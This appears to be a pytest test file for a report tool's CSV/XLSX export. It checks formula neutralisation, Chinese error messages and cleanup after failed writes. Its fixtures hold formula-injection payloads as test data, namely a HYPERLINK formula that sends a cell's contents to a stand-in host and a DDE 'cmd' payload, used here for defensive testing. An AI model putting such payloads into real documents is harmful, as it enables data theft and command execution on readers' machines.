"""Export safety: no live formulas from report text, a Chinese cause for every write failure,
and nothing left behind when writing fails."""
import csv
import errno
import os

import openpyxl
import pytest

from core.errors import ReportError, os_error_message
from core.export import export
from core.store import Store

HOSTILE = '=HYPERLINK("http://example.invalid/x"&A2,"召开会议26次")'
REPORT = ("某县人民政府2024年法治政府建设年度报告\n一、主要举措和成效\n"
          f"{HOSTILE}\n+全年培训干部3场。\n-审核文件12件。\n@组织学法5次。\n"
          "二、存在的不足和原因\n三、党政主要负责人履行推进法治建设第一责任人职责情况\n"
          "四、下一年度主要安排\n")


def _imp(store, path):
    """Import one file the way the command line does (load and detect in this process)."""
    from core.analysis import load_and_analyze

    return store.import_file(path, analyzer=load_and_analyze)


@pytest.fixture
def store(tmp_path):
    src = tmp_path / "报告.txt"
    src.write_text(REPORT, encoding="utf-8")
    s = Store(tmp_path / "db.sqlite3")
    rid = _imp(s, src).report_id
    figs = s.list_figures(rid)
    assert figs, "the detector found no figures in the test report"
    s.update_figure(figs[0].id, "张三", subject="=cmd|' /C calc'!A0")
    s.update_figure(figs[1].id, "张三", subject="\t=1+1", value=-5)
    yield s
    s.close()


def _csv_rows(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_neutralises_formula_text_but_keeps_numbers(store, tmp_path):
    rows = _csv_rows(export(store, tmp_path / "明细.csv"))
    cells = [v for row in rows for v in row.values() if v]
    dangerous = [v for v in cells if v[0] in "=+-@\t\r"]
    numbers = [row["数值"] for row in rows]
    assert "-5" in numbers  # a negative value stays a number
    dangerous = [v for v in dangerous if v not in numbers]
    assert dangerous == []
    assert "'=cmd|' /C calc'!A0" in {row["事项"] for row in rows}
    assert any(row["所在句子"].startswith("'=HYPERLINK") for row in rows)


def test_xlsx_has_no_formula_cells(store, tmp_path):
    wb = openpyxl.load_workbook(export(store, tmp_path / "汇总.xlsx"))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert "=cmd|' /C calc'!A0" in texts  # kept verbatim, as text
    assert any(t.startswith("=HYPERLINK") for t in texts)


@pytest.mark.parametrize("code, expect", [
    (errno.ENOSPC, "磁盘空间已满"), (errno.EACCES, "没有权限"), (errno.EROFS, "只读"),
    (errno.ENOENT, "找不到"), (errno.ENAMETOOLONG, "太长"), (errno.EBUSY, "占用"),
    (errno.EEXIST, "已存在"), (errno.EPERM, "不被允许"),
])
def test_os_error_message_is_chinese_with_system_text_after(code, expect):
    message = os_error_message(OSError(code, os.strerror(code)))
    assert message.startswith(expect) or expect in message.split("（系统信息")[0]
    assert message.endswith(f"（系统信息：{os.strerror(code)}）")


def test_windows_sharing_violation_names_the_other_program():
    exc = PermissionError(errno.EACCES, "另一个程序正在使用此文件，进程无法访问。")
    exc.winerror = 32
    assert "Excel/WPS" in os_error_message(exc)


def _failing_writer(code):
    def write(path, *_args):
        path.write_bytes(b"half a file")  # what a disk-full write leaves
        path.with_name(path.name + ".part").write_bytes(b"half")
        raise OSError(code, os.strerror(code))
    return write


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_disk_full_keeps_old_file_and_leaves_nothing(store, tmp_path, monkeypatch, suffix):
    from core.export import csv_writer, xlsx_writer

    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / f"汇总{suffix}"
    out.write_bytes(b"previous export")
    monkeypatch.setattr(csv_writer, "write_csv", _failing_writer(errno.ENOSPC))
    monkeypatch.setattr(xlsx_writer, "write_xlsx", _failing_writer(errno.ENOSPC))
    with pytest.raises(ReportError) as info:
        export(store, out)
    assert "磁盘空间已满" in info.value.message and "Excel" not in info.value.message
    assert out.read_bytes() == b"previous export"
    assert [p.name for p in out_dir.iterdir()] == [out.name]


def test_permission_error_while_writing_is_not_blamed_on_excel(store, tmp_path, monkeypatch):
    from core.export import csv_writer

    monkeypatch.setattr(csv_writer, "write_csv", _failing_writer(errno.EACCES))
    with pytest.raises(ReportError) as info:
        export(store, tmp_path / "x.csv")
    assert "没有权限" in info.value.message and "Excel" not in info.value.message
    assert not list(tmp_path.glob("*x*.tmp*"))


def test_target_open_in_excel_is_named(store, tmp_path, monkeypatch):
    """Windows refuses to replace a file Excel holds: only then is Excel/WPS the likely cause."""
    out = tmp_path / "汇总.xlsx"
    out.write_bytes(b"open in Excel")

    real_replace = os.replace

    def refuse(src, dst):
        if os.fspath(dst) != os.fspath(out):
            return real_replace(src, dst)
        exc = PermissionError(errno.EACCES, "Access is denied")
        exc.winerror = 5
        raise exc

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(ReportError) as info:
        export(store, out)
    assert "Excel/WPS" in info.value.message and "系统信息" in info.value.message
    assert out.read_bytes() == b"open in Excel"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["db.sqlite3", "db.sqlite3-shm", "db.sqlite3-wal", "db_originals", "报告.txt", out.name])


def test_real_failures_give_chinese_causes(store, tmp_path):
    blocker = tmp_path / "a_file"
    blocker.write_text("x")
    with pytest.raises(ReportError) as info:
        export(store, blocker / "sub" / "out.csv")  # a file where a folder should be
    assert "系统信息" in info.value.message
    with pytest.raises(ReportError) as info:
        export(store, tmp_path / ("长" * 200 + ".csv"))
    assert "太长" in info.value.message
